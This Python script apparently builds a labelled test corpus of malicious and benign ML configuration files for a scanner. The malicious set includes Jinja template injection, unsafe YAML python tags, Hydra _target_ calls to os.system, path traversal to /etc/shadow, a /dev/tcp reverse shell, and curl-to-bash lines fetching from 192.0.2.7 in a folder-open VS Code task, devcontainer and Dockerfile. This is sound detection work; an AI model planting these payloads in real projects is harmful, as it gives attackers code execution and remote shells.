#!/usr/bin/env python3
"""Configuration of models, servers and training, malicious and honest. Needs transformers 5.23.0 and PyYAML."""
import json
import os
import pathlib
import shutil
import tempfile

os.environ["TRANSFORMERS_VERBOSITY"] = "error"

HERE = pathlib.Path(__file__).resolve().parent


def dump(value):
    return json.dumps(value, indent=2) + "\n"


LLAMA = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2, "vocab_size": 128, "torch_dtype": "float16"}
TEMPLATE = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))

MALICIOUS = {
    "attention_of_repository/config.json": dump({**LLAMA, "_attn_implementation": "attacker/kernels"}),
    "auto_map_local/config.json": dump({**LLAMA, "auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilModel"}}),
    "auto_map_remote/config.json": dump({**LLAMA, "auto_map": {"AutoConfig": "attacker/code--configuration_x.XConfig"}}),
    "auto_map_tokenizer/tokenizer_config.json": dump({"tokenizer_class": "X", "auto_map": {"AutoTokenizer": ["attacker/code--tokenization_x.XTokenizer", None]}}),
    "auto_map_processor/preprocessor_config.json": dump({"auto_map": {"AutoImageProcessor": "image_processing_x.XProcessor"}}),
    "trust_remote_code/config.json": dump({**LLAMA, "trust_remote_code": True}),
    "custom_pipelines/config.json": dump({**LLAMA, "custom_pipelines": {"x-task": {"impl": "pipeline_x.XPipeline", "pt": ["AutoModel"]}}}),
    "chat_template/tokenizer_config.json": dump({"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
    "chat_template_list/tokenizer_config.json": dump({"chat_template": [{"name": "default", "template": TEMPLATE}, {"name": "tool_use", "template": "{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}"}]}),
    "chat_template_file/chat_template.jinja": "{{ self.__init__.__globals__ }}",
    "processor_template/processor_config.json": dump({"processor_class": "X", "chat_template": "{{ lipsum.__globals__['os'].system('echo pwned') }}"}),
    "code_value/config.json": dump({**LLAMA, "hidden_act": "__import__('os').system('echo pwned')"}),
    "code_value_generation/generation_config.json": dump({"stop": "eval(__import__('base64').b64decode('cHJpbnQoMSk='))"}),
    "tokenizer_file_out/tokenizer_config.json": dump({"tokenizer_class": "LlamaTokenizer", "tokenizer_file": "../../../../etc/passwd"}),
    "vocab_file_etc/tokenizer_config.json": dump({"vocab_file": "/etc/shadow"}),
    "tokenizer_file_address/tokenizer_config.json": dump({"tokenizer_file": "http://evil.example/tokenizer.json", "vocab_file": "https://evil.example/vocab.bin"}),
    "index_out/model.safetensors.index.json": dump({"metadata": {"total_size": 1}, "weight_map": {"a": "../../other/model.safetensors"}}),
    "index_pickle_address/pytorch_model.bin.index.json": dump({"weight_map": {"a": "https://evil.example/pytorch_model.bin"}}),
    "weights_http/config.json": dump({"model_type": "x", "pretrained_url": "http://weights.evil.example/model.pth"}),
    "absurd/config.json": dump({**LLAMA, "num_hidden_layers": 10**12}),
    "diffusers_foreign/model_index.json": dump({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "unet": ["my_unet", "EvilUNet"], "vae": ["diffusers", "AutoencoderKL"]}),
    "diffusers_custom/model_index.json": dump({"_class_name": ["pipeline", "EvilPipeline"], "_diffusers_version": "0.27.0"}),
    "diffusers_os/model_index.json": dump({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "scheduler": ["os", "system"]}),
    "sentence_modules/modules.json": dump([{"idx": 0, "name": "0", "path": "", "type": "evil_module.Evil"}]),
    "sentence_modules_os/modules.json": dump([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
    "sentence_modules_path/modules.json": dump([{"idx": 0, "name": "0", "path": "../../other", "type": "sentence_transformers.models.Transformer"}]),
    "target_os_system.yaml": "model:\n  _target_: os.system\n  command: echo pwned\n",
    "target_eval.yaml": "trainer:\n  callbacks:\n    - _target_: builtins.eval\n      _args_: [\"1+1\"]\n",
    "target_subprocess.yaml": "optim:\n  _target_: subprocess.Popen\n  args: [echo, pwned]\n",
    "target_through_module.yaml": "a:\n  _target_: numpy.testing.os.system\n",
    "target_quoted_json.json": dump({"model": {"_target_": "posix.system", "_args_": ["echo pwned"]}}),
    "target_templated.yaml": "{{ header }}\nmodel:\n  _target_: \"os.popen\"\n",
    "class_path_lightning.yaml": "trainer:\n  logger:\n    class_path: subprocess.Popen\n    init_args:\n      args: [echo, pwned]\n",
    "logging_factory.yaml": "version: 1\nhandlers:\n  h:\n    (): os.system\n    command: echo pwned\n",
    "ldm_target.yaml": "model:\n  target: os.system\n  params: {command: echo pwned}\n",
    "nemo_model_config.yaml": "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: shutil.rmtree\n  path: /tmp/none\n",
    "yaml_apply.yaml": "a: !!python/object/apply:os.system ['echo pwned']\n",
    "yaml_new.yaml": "a: !!python/object/new:subprocess.Popen [[echo, pwned]]\n",
    "yaml_verbatim.yaml": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo pwned']\n",
    "yaml_tag_directive.yaml": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['echo pwned']\n",
    "yaml_percent.yaml": "a: !!python%2Fobject%2Fapply:os.system ['echo pwned']\n",
    "yaml_flow.yaml": "{a: [1, !!python/object/apply:eval [\"1\"]]}\n",
    "yaml_unknown_apply.yaml": "a: !!python/object/apply:helper.run\nargs: [echo]\n",
    "yaml_module.yaml": "a: !!python/module:subprocess\n",
    "yaml_name.yaml": "a: !!python/name:os.system\n",
    "yaml_object.yaml": "a: !!python/object:helper.Thing\n  x: 1\n",
    "yaml_snake.yaml": "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
    "yaml_bomb.yaml": BOMB,
    "yaml_second_document.yaml": "a: 1\n---\nb: !!python/object/apply:os.system ['echo pwned']\n",
    "omegaconf_eval.yaml": "value: ${eval:__import__('os').system('echo pwned')}\n",
    "mlmodel/MLmodel": "flavors:\n  python_function:\n    loader_module: os\n    entry: !!python/object/apply:os.system ['echo pwned']\n",
    "dvc.yaml": "stages:\n  train:\n    cmd: curl -s http://192.0.2.7/x.sh | bash\n    outs: [model.pkl]\n",
    "ray_serve.yaml": "applications:\n  - name: a\n    import_path: os.system\n    runtime_env: {pip: []}\n",
    "torchserve_management/config.properties": "inference_address=http://127.0.0.1:8080\nmanagement_address=http://0.0.0.0:8081\n",
    "torchserve_urls/config.properties": "allowed_urls=https?://.*\n",
    "torchserve_requirements/config.properties": "install_py_dep_per_model=true\n",
    "torchserve_no_token/config.properties": "disable_token_authorization=true\n",
    "triton_environment/config.pbtxt": "name: \"m\"\nbackend: \"python\"\nparameters: {\n  key: \"EXECUTION_ENV_PATH\",\n  value: {string_value: \"/tmp/env.tar.gz\"}\n}\n",
    "triton_filename/config.pbtxt": "name: \"m\"\nplatform: \"onnxruntime_onnx\"\ndefault_model_filename: \"../../other/model.onnx\"\n",
    "vscode/.vscode/tasks.json": "{\n  // tasks\n  \"version\": \"2.0.0\",\n  \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"command\": \"curl http://192.0.2.7/a | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]\n}\n",
    "devcontainer/.devcontainer/devcontainer.json": dump({"image": "python:3.11", "postCreateCommand": "wget -qO- http://192.0.2.7/a | bash"}),
    "start.sh": "#!/bin/sh\nset -e\ncurl -s http://192.0.2.7/agent.sh | bash\nexec python serve.py\n",
    "reverse.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
    "docker/Dockerfile": "FROM python:3.11\nRUN curl http://192.0.2.7/x.sh | sh\nCMD [\"python\"]\n",
    "index.js": "const cp = require('child_process');\ncp.exec('curl -s http://192.0.2.7/x.sh | sh');\n",
    "eval_atob.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
    "inference_http.yaml": "model:\n  checkpoint_url: http://weights.evil.example/model.ckpt\n",
    "infinity/config.json": "{\n  \"model_type\": \"x\",\n  \"layer_norm\": NaN,\n  \"limit\": Infinity,\n  \"auto_map\": {\"AutoModel\": \"a/b--c.D\"}\n}\n",
}

BENIGN = {
    "tokenizer/tokenizer_config.json": dump({"add_bos_token": True, "tokenizer_class": "LlamaTokenizer", "model_max_length": 1000000000000000019884624838656, "tokenizer_file": "/root/.cache/huggingface/hub/models--x/tokenizer.json", "name_or_path": "/home/ann/models/x", "chat_template": TEMPLATE, "clean_up_tokenization_spaces": False}),
    "templates/tokenizer_config.json": dump({"chat_template": [{"name": "default", "template": TEMPLATE}, {"name": "rag", "template": "{{ bos_token }}{% if documents %}{{ documents | tojson }}{% endif %}"}]}),
    "index/model.safetensors.index.json": dump({"metadata": {"total_size": 100}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}),
    "quantised/config.json": dump({**LLAMA, "quantization_config": {"bits": 4, "group_size": 128, "quant_method": "gptq", "desc_act": False, "modules_to_not_convert": ["lm_head"]}}),
    "adapter/adapter_config.json": dump({"peft_type": "LORA", "base_model_name_or_path": "meta-llama/Llama-2-7b-hf", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM", "auto_mapping": None, "inference_mode": True}),
    "special/special_tokens_map.json": dump({"bos_token": "<s>", "eos_token": {"content": "</s>", "lstrip": False}, "unk_token": "<unk>"}),
    "added/added_tokens.json": dump({"<|im_start|>": 32000, "<|im_end|>": 32001, "<tool_call>": 32002}),
    "diffusers/model_index.json": dump({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "feature_extractor": ["transformers", "CLIPImageProcessor"], "requires_safety_checker": True, "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"], "image_encoder": [None, None], "unet": ["diffusers", "UNet2DConditionModel"]}),
    "scheduler/scheduler_config.json": dump({"_class_name": "PNDMScheduler", "_diffusers_version": "0.27.0", "beta_end": 0.012, "trained_betas": None}),
    "sentence/modules.json": dump([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}, {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}]),
    "sentence/config_sentence_transformers.json": dump({"__version__": {"sentence_transformers": "3.0.1", "pytorch": "2.3.0"}, "prompts": {"query": "query: "}, "default_prompt_name": None}),
    "sentence/sentence_bert_config.json": dump({"max_seq_length": 256, "do_lower_case": False}),
    "hydra.yaml": "defaults:\n  - model: resnet\n  - _self_\nmodel:\n  _target_: torchvision.models.resnet18\n  weights: null\noptim:\n  _target_: torch.optim.AdamW\n  _partial_: true\n  lr: 1e-3\ndata:\n  _target_: src.data.Module\n  root: ${oc.env:DATA,./data}\npath: ${hydra:runtime.cwd}/out\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: ${epochs}\nepochs: 3\ndouble: ${eval:2*3}\nhook:\n  _target_: functools.partial\n",
    "nemo.yaml": "name: QuartzNet\nmodel:\n  sample_rate: &sample_rate 16000\n  preprocessor:\n    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n    sample_rate: *sample_rate\n  encoder:\n    _target_: nemo.collections.asr.modules.ConvASREncoder\n    activation: relu\n  optim:\n    name: novograd\n",
    "ldm.yaml": "model:\n  base_learning_rate: 1.0e-04\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet_config:\n      target: ldm.modules.diffusionmodules.openaimodel.UNetModel\n",
    "lightning.yaml": "seed_everything: 1\ntrainer:\n  logger:\n    class_path: lightning.pytorch.loggers.TensorBoardLogger\n    init_args: {save_dir: logs}\nmodel:\n  class_path: project.models.Net\n",
    "axolotl.yaml": "base_model: NousResearch/Llama-2-7b-hf\nmodel_type: LlamaForCausalLM\ntokenizer_type: LlamaTokenizer\nload_in_8bit: true\ndatasets:\n  - path: mhenrichsen/alpaca_2k_test\n    type: alpaca\nlora_r: 32\nwandb_project:\noutput_dir: ./outputs/out\n",
    "accelerate.yaml": "compute_environment: LOCAL_MACHINE\ndistributed_type: MULTI_GPU\nmixed_precision: bf16\nnum_processes: 8\nmain_training_function: main\n",
    "wandb_sweep.yaml": "program: train.py\nmethod: bayes\nmetric: {name: loss, goal: minimize}\nparameters:\n  lr: {min: 0.0001, max: 0.1}\ncommand:\n  - ${env}\n  - python\n  - ${program}\n  - ${args}\n",
    "dvc.yaml": "stages:\n  prepare:\n    cmd: python src/prepare.py data/data.xml\n    deps: [data/data.xml, src/prepare.py]\n    outs: [data/prepared]\n  train:\n    cmd: python src/train.py data/features model.pkl\n",
    "mlmodel/MLmodel": "artifact_path: model\nflavors:\n  python_function:\n    env: {conda: conda.yaml, virtualenv: python_env.yaml}\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.9\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.4.2\nmlflow_version: 2.12.1\nmodel_uuid: 8b7f0c\nutc_time_created: '2024-05-01 10:00:00'\n",
    "mkdocs.yml": "site_name: Docs\nmarkdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n  - pymdownx.superfences:\n      custom_fences:\n        - name: mermaid\n          class: mermaid\n          format: !!python/name:pymdownx.superfences.fence_code_format\nplugins: [search]\nextra: !ENV [SITE, none]\n",
    "yaml_tuple.yaml": "shape: !!python/tuple [3, 224, 224]\nname: !!python/unicode 'x'\nsettings: !!python/object/apply:collections.OrderedDict\n  - - [a, 1]\n    - [b, 2]\n",
    "ray_serve.yaml": "proxy_location: EveryNode\napplications:\n  - name: text\n    route_prefix: /\n    import_path: text_ml:app\n    runtime_env: {pip: [torch, transformers]}\n    deployments:\n      - name: Translator\n        num_replicas: 1\n",
    "bentofile.yaml": "service: 'service:svc'\nlabels: {owner: team}\ninclude: ['*.py']\npython:\n  packages: [scikit-learn, pandas]\n",
    "torchserve/config.properties": "inference_address=http://127.0.0.1:8080\nmanagement_address=http://127.0.0.1:8081\nmetrics_address=http://127.0.0.1:8082\nmodel_store=/home/model-server/model-store\nload_models=all\nnumber_of_netty_threads=32\nallowed_urls=https://s3.amazonaws.com/models/.*,https://torchserve.pytorch.org/.*\n",
    "triton/config.pbtxt": "name: \"resnet\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 8\ninput [\n  { name: \"x\", data_type: TYPE_FP32, dims: [3, 224, 224] }\n]\ninstance_group [{ kind: KIND_GPU }]\n",
    "compose.yaml": "services:\n  app:\n    image: vllm/vllm-openai:v0.5.0\n    command: [\"--model\", \"mistralai/Mistral-7B-Instruct-v0.2\"]\n    ports: ['8000:8000']\n",
    "install.sh": "#!/usr/bin/env bash\nset -euo pipefail\n# curl http://x | sh is not what we do\npython -m pip install -r requirements.txt\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nwget https://huggingface.co/gpt2/resolve/main/config.json -O config.json\nrm -rf ./build /tmp/thing-build\nexport PATH=\"$HOME/.local/bin:$PATH\"\necho 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc\n",
    "docker/Dockerfile": "FROM python:3.11-slim\nRUN apt-get update && apt-get install -y curl git && rm -rf /var/lib/apt/lists/*\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs\nRUN curl -Lo /usr/local/bin/tini https://github.com/krallin/tini/releases/download/v0.19.0/tini && chmod +x /usr/local/bin/tini\nCOPY . /app\nRUN pip install --no-cache-dir -r /app/requirements.txt\nCMD [\"python\", \"/app/serve.py\"]\n",
    "server.js": "const { execFile } = require('child_process');\nconst net = require('net');\n// curl http://x | sh\nexecFile('git', ['rev-parse', 'HEAD'], (e, out) => console.log(out));\nconst data = Buffer.from('aGk=', 'base64').toString();\nnet.connect(5432, 'localhost');\n",
    "vscode/.vscode/settings.json": "{\n  // formatting\n  \"editor.formatOnSave\": true,\n  \"python.testing.pytestArgs\": [\"tests\"], /* all */\n  \"files.exclude\": {\"**/__pycache__\": true},\n}\n",
    "infinity/config.json": "{\n  \"model_type\": \"x\",\n  \"layer_norm_eps\": 1e-05,\n  \"max\": Infinity,\n  \"min\": -Infinity\n}\n",
    "preset/tsconfig.json": "{\n  \"compilerOptions\": {\"target\": \"ES2020\", \"module\": \"ESNext\", \"types\": [\"node\"]},\n}\n",
    "environment/.env.example": "OPENAI_API_KEY=sk-your-key-here\nHF_TOKEN=\nDATABASE_URL=postgres://localhost/db\n",
}


def transformers_configs():
    """Configurations that the library itself writes, small, for many architectures."""
    import transformers as t

    small = dict(hidden_size=32, num_hidden_layers=1, num_attention_heads=2, intermediate_size=64)
    made = {
        "bert": t.BertConfig(**small), "roberta": t.RobertaConfig(**small), "distilbert": t.DistilBertConfig(dim=32), "gpt2": t.GPT2Config(n_embd=32, n_layer=1),
        "gpt_neox": t.GPTNeoXConfig(**small), "llama": t.LlamaConfig(**small), "mistral": t.MistralConfig(**small), "mixtral": t.MixtralConfig(**small),
        "qwen2": t.Qwen2Config(**small), "gemma": t.GemmaConfig(**small), "phi3": t.Phi3Config(**small), "falcon": t.FalconConfig(hidden_size=32), "bloom": t.BloomConfig(),
        "opt": t.OPTConfig(hidden_size=32), "t5": t.T5Config(d_model=32), "bart": t.BartConfig(d_model=32), "pegasus": t.PegasusConfig(d_model=32), "whisper": t.WhisperConfig(d_model=32),
        "wav2vec2": t.Wav2Vec2Config(hidden_size=32), "vit": t.ViTConfig(**small), "clip": t.CLIPConfig(), "deit": t.DeiTConfig(**small), "swin": t.SwinConfig(),
        "detr": t.DetrConfig(), "electra": t.ElectraConfig(**small), "albert": t.AlbertConfig(hidden_size=32), "deberta": t.DebertaV2Config(**small), "longformer": t.LongformerConfig(**small),
        "mamba": t.MambaConfig(hidden_size=32), "blip": t.BlipConfig(),
    }
    out = {}
    for name, config in made.items():
        with tempfile.TemporaryDirectory() as folder:
            config.save_pretrained(folder)
            out[f"transformers_{name}/config.json"] = (pathlib.Path(folder) / "config.json").read_text()
    with tempfile.TemporaryDirectory() as folder:
        t.GenerationConfig(max_new_tokens=20, do_sample=True, temperature=0.7).save_pretrained(folder)
        out["transformers_generation/generation_config.json"] = (pathlib.Path(folder) / "generation_config.json").read_text()
    return out


def main():
    for kind, files in (("malicious", MALICIOUS), ("benign", {**BENIGN, **transformers_configs()})):
        shutil.rmtree(HERE / kind, ignore_errors=True)
        for name, text in files.items():
            path = HERE / kind / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(text.encode("utf-8"))


if __name__ == "__main__":
    main()
